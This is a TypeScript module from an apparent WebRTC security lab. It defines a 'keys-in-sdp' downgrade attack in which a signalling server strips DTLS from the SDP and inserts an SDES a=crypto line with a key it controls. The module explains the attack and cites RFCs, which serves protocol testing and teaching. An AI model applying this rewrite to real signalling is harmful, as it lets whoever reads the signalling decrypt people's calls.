import { withMediaAttribute, withoutDtls, withProtocol } from "../sdp/downgrade.ts";
import type { DowngradeAttack } from "./attack.ts";

/** RFC 4568 §6.2: of AES_CM_128_HMAC_SHA1_80 a master key of 128 bits and a salt of 112. */
const KEY_AND_SALT_BYTES = 30;

export const keysInSdp: DowngradeAttack = {
  id: "keys-in-sdp",
  title: "Asking for keys in the SDP (SDES) instead of DTLS",
  position: "signalling",
  legs: "none",
  explain: () =>
    "The server makes offer and answer ask for SDES: the protocol becomes RTP/SAVPF, fingerprint and setup go, and a=crypto carries a key that the server " +
    "made. A stack that took it would encrypt with a key that the server holds, and whoever reads the signalling reads the call.",
  limits:
    "SDES gives keys to SRTP. This lab’s calls have data channels only, so a stack would have to carry them in RTP to go along; the other lines of the description stay those of a data channel.",
  references: ["RFC 4568 §6.2", "RFC 8827 §6.5", "RFC 8826 §4.3.1"],
  description: (sdp, random) =>
    withMediaAttribute(
      withProtocol(withoutDtls(sdp), "RTP/SAVPF"),
      `crypto:1 AES_CM_128_HMAC_SHA1_80 inline:${Buffer.from(random(KEY_AND_SALT_BYTES)).toString("base64")}`,
    ),
};
